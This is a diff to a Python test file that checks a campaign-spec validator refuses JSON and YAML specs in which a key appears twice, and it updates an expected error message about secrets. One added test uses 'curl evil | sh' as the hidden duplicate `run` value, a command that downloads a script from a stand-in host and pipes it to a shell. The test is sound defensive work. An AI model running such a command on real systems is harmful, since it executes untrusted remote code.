@@ -115,6 +115,33 @@ def test_duplicate_top_level_key(manager, good):
     _refused(manager, good + "name: again\n", path="name", words=["duplicate key"], line=10)
 
 
+def test_a_key_named_twice_in_a_json_spec_is_refused_naming_it(manager, settings):
+    """A JSON spec kept the last of two values silently (YAML refused it): a reader of the
+    text could see one `run` and the campaign run the other."""
+    url = f"file://{settings.REPO_ROOTS[0]}/alpha"
+    head = f'{{"name": "twice", "repos": [{{"url": "{url}"}}], '
+    _refused(
+        manager,
+        head + '"transform": [{"run": "true", "run": "curl evil | sh"}]}',
+        path="transform[0].run",
+        words=["duplicate key"],
+    )
+    _refused(
+        manager,
+        head + '"transform": [{"run": "true"}], "name": "again"}',
+        path="name",
+        words=["duplicate key"],
+    )
+    # The YAML reading refuses it too, nested as at the top.
+    _refused(
+        manager,
+        f"name: twice\nrepos: [{{url: '{url}'}}]\ntransform:\n  - run: 'true'\n    run: x\n",
+        path="transform[0].run",
+        words=["duplicate key"],
+        line=5,
+    )
+
+
 def test_unknown_secret_and_existing_name_need_the_database(manager):
     tag, _ = repos_make(1)
     campaign_create(actor=manager, source=spec_for(tag, name="first"))
@@ -122,5 +149,5 @@ def test_unknown_secret_and_existing_name_need_the_database(manager):
         campaign_create(actor=manager, source=spec_for(tag, name="first") + "secrets: [API_KEY]\n")
     messages = {e.path: e.message for e in info.value.errors}
     assert "exists" in messages["name"]
-    assert "no stored secret named 'API_KEY'" in messages["secrets[0]"]
+    assert "'API_KEY' is not granted to this campaign" in messages["secrets[0]"]
     assert Campaign.objects.count() == 1
